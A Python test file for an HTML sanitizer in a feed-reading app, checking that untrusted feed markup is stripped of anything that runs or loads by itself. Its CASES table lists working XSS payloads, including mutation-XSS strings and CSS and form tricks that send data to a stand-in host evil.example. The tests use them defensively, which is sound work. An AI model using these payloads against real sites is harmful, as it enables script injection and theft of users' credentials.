"""Whatever a feed writes, only what can be read is shown."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from variorum.desk.views.safe_html import plain_paragraphs, safe_html

BASE = "https://post.example/news/"
HARMLESS = set(
    "href title cite datetime src alt width height start reversed colspan rowspan".split()
)
HARMLESS |= set("headers scope span lang dir rel loading referrerpolicy".split())

CASES = {
    "script": "<p>a<script>alert(1)</script>b</p>",
    "handler": '<p onclick="alert(1)" onmouseover=alert(2)>a b</p>',
    "javascript link": '<a href="javascript:alert(1)">a b</a><a href=" java&#10;script:alert(1)">c</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">a b</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">a b</a>',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) /><a xlink:href='javascript:alert(1)'>x</a></svg>a b",
    "svg in a picture": "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt='a b'>",
    "mathml": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>a b",
    "mutation by style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a b',
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation by template": "<template><img src=x onerror=alert(1)></template>a b",
    "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "style leak": '<style>input[value^=a]{background:url(//evil.example/a)}</style><p style="background:url(//evil.example)">a b</p>',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x.swf></object><embed src=x>a b',
    "form to steal": '<form action=//evil.example><input name=password><button formaction="javascript:alert(1)">a b</button></form>',
    "base and meta": '<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>a b',
    "names that shadow ours": '<a id=mark name=mark class=tab>a b</a><img name=getElementById src=x>',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->a b",
    "broken": '<p title="a<b" <img src=x onerror=alert(1) //<b',
}  # fmt: skip


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    seen = Seen()
    seen.feed(html)
    for tag, attributes in seen.tags:
        assert tag not in {"script", "style", "svg", "math", "iframe", "form", "input", "base", "meta", "link"}  # fmt: skip
        assert set(attributes) <= HARMLESS, (tag, attributes)
        for name in ("href", "src"):
            value = attributes.get(name)
            assert value is None or value.startswith(("http://", "https://", "mailto:")), value


@pytest.mark.parametrize("name", CASES)
def test_nothing_that_runs_or_loads_by_itself_is_left_of(name: str) -> None:
    for html in (
        safe_html(CASES[name], base=BASE),
        safe_html(CASES[name], base=BASE, pictures=False),
    ):
        assert_harmless(html)
        # What is safe stays as it is when it is read a second time.
        assert safe_html(html, base=BASE) == html
        words = " ".join(re.sub(r"<[^>]+>", " ", html).split())
        assert "a b" in words or "a b" not in CASES[name] or 'alt="a b"' in html


@given(st.text(alphabet="<>/=\"'& abimgsvgscriptonerror!-\ud800\0", max_size=200))
def test_any_text_gives_a_harmless_fragment(text: str) -> None:
    assert_harmless(safe_html(text, base=BASE))


def test_links_and_pictures_start_from_the_address_of_the_page() -> None:
    html = safe_html('<a href="../x">x</a><img src="y.png" alt="a house">', base=BASE)
    assert 'href="https://post.example/x"' in html
    assert 'src="https://post.example/news/y.png"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'referrerpolicy="no-referrer"' in html
    without = safe_html('<a href="/x">x</a>', base=None)
    assert "href" not in without


def test_without_pictures_it_is_said_what_they_show() -> None:
    html = safe_html(
        '<img src="y.png" alt="a &lt;b&gt; house"><img src=z.png>', base=BASE, pictures=False
    )
    assert html == "<small>[picture: a &lt;b&gt; house]</small><small>[picture]</small>"


def test_what_is_far_too_long_is_cut_and_that_is_said() -> None:
    html = safe_html("<p>" + "a " * 3_000_000 + "</p>", base=BASE)
    assert len(html) < 4_300_000
    assert "too long" in html


def test_pictures_that_nobody_can_see_are_not_loaded() -> None:
    html = '<img src="https://a.example/t" width="1" height="1"><img src="https://a.example/u" height=0>'
    for pictures in (True, False):
        assert safe_html(html + "words", base=BASE, pictures=pictures) == "words"
    assert "<img" in safe_html('<img src="https://a.example/t" width="10">', base=BASE)


def test_the_words_of_a_fragment_are_told_paragraph_by_paragraph() -> None:
    html = "<h1>One &amp; two</h1><p>Three <b>four</b><br>five<script>six</script></p><!-- seven --> <p> </p>"
    assert plain_paragraphs(html, limit=9_999) == "One & two\nThree four\nfive"
    assert plain_paragraphs("<p>abc", limit=5) == "ab"
